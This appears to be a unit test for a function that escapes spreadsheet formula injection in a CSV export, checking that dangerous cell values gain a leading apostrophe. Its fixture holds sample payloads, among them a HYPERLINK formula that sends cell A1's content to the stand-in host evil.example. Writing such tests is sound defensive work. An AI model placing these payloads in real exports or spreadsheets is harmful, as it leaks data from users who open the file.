import { spreadsheetSafe } from './spreadsheetSafe';

describe("a list's CSV export", () => {
  it('makes every text that a spreadsheet would run as a formula plain text, however deep', () => {
    const event = {
      id: 3,
      personName: '@Mallory',
      before: { title: 'Workshop', tags: ['-1+1', 'ok'] },
      after: { title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', progress: -5 },
      initiativeId: null,
    };
    expect(spreadsheetSafe(event)).toEqual({
      id: 3,
      personName: "'@Mallory",
      before: { title: 'Workshop', tags: ["'-1+1", 'ok'] },
      after: { title: `'=HYPERLINK("http://evil.example/?x="&A1,"klik")`, progress: -5 },
      initiativeId: null,
    });
  });
});
